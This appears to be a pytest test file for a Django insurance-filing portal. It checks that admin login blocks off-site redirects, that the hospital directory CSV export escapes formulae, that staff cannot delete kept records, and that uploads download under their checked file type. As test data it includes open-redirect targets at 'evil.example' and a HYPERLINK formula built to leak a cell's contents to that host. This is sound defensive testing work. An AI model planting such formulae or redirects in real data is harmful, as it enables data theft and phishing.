"""What an account may do beyond its role, refused: the admin's login never sends anyone to
another site, records kept by the services are not deleted in the admin, a hospital's name is
never a formula in the directory export, and a stored file downloads under the extension of the
type it was checked to be."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from filings.models import Filing, Material
from hospitals.models import Hospital
from portal.models import InsuredPerson, Notification
from tests.filings.corpus import _pdf
from tests.signin import staff_login

pytestmark = pytest.mark.django_db


def test_admin_login_does_not_send_signed_in_staff_off_site(client, demo):
    staff_login(client, "agency_dxal")
    for target in ("https://evil.example/x", "//evil.example/x", "/\\evil.example/x"):
        response = client.get("/admin/login/", {"next": target})
        assert response.status_code == 302
        assert "evil.example" not in response["Location"]
        assert response["Location"] == reverse("admin:index")
    # A page of the portal's own is still where it goes.
    own = reverse("admin:filings_filing_changelist")
    assert client.get("/admin/login/", {"next": own})["Location"] == own


def test_directory_export_does_not_write_formulae_and_its_import_takes_them_back(client, demo):
    # As agency staff of Shenyang may type it for their own hospital (its change form):
    Hospital.objects.filter(code="H21010000001").update(
        name_en='=HYPERLINK("http://evil.example/?"&A1,"open")'
    )
    staff_login(client, "agency_dxal")
    names = ["code", "name", "name_en", "province", "region", "level", "kind", "ownership"]
    response = client.post(
        reverse("admin:hospitals_hospital_export"),
        {"format": "0", "resource": "0", **{f"hospitalresource_{n}": "on" for n in names}},
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert any("H21010000001" in row for row in rows)
    assert not [c for row in rows for c in row if c.startswith(("=", "+", "@"))]
    row = next(row for row in rows if "H21010000001" in row)
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"open")' in row
    # The same file imported again gives the same name back, without the apostrophe.
    from hospitals.resources import HospitalResource

    resource = HospitalResource()
    exported = {"name_en": "'=SUM(1)", "name_zh": "'+86 医院"}
    resource.before_import_row(exported)
    assert exported == {"name_en": "=SUM(1)", "name_zh": "+86 医院"}


def test_agency_staff_cannot_delete_kept_records_in_the_admin(client, demo):
    """A proof of residence deleted in the admin left its filing two-way, with no audit event;
    notifications and insured persons are kept the same way."""
    material = Material.objects.filter(filing__insured_region__code="232700").first()
    person = InsuredPerson.objects.get(name="王秀兰")
    note = Notification.objects.create(user=person.user, notice="filing_status", url="/filings/")
    staff_login(client, "agency_dxal")
    for name, row in (
        ("filings_material", material),
        ("portal_notification", note),
        ("portal_insuredperson", person),
    ):
        url = reverse(f"admin:{name}_delete", args=[row.pk])
        assert client.post(url, {"post": "yes"}).status_code == 403, name
        assert type(row).objects.filter(pk=row.pk).exists(), name


def test_a_material_downloads_with_the_extension_of_its_checked_type(client, demo):
    """A PDF uploaded as `scan.html` passes the checks (it is a PDF); it downloads as
    `scan.pdf`, so the reviewer's computer never opens it as a web page."""
    filing = Filing.objects.get(number="BA232700000001")
    client.post(reverse("account_login"), {"login": "wangxiulan", "password": "Demo#2026"})
    client.post(
        reverse("filings:detail", args=[filing.number]),
        {
            "action": "upload",
            "kind": "other",
            "files": SimpleUploadedFile("scan.html", _pdf(), content_type="application/pdf"),
        },
    )
    material = Material.objects.filter(filing=filing, original_name="scan.html").get()
    response = client.get(reverse("filings:material", args=[material.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('filename="scan.pdf"')


@pytest.mark.parametrize(
    ("name", "content_type", "shown"),
    [
        ("scan.PDF", "application/pdf", "scan.PDF"),
        ("photo.jpeg", "image/jpeg", "photo.jpeg"),
        ("证明", "image/png", "证明.png"),
        ("a.b.exe", "image/png", "a.b.png"),
    ],
)
def test_a_download_keeps_a_name_whose_extension_is_its_type(name, content_type, shown):
    from filings.uploads import download_name

    assert download_name(name, content_type) == shown
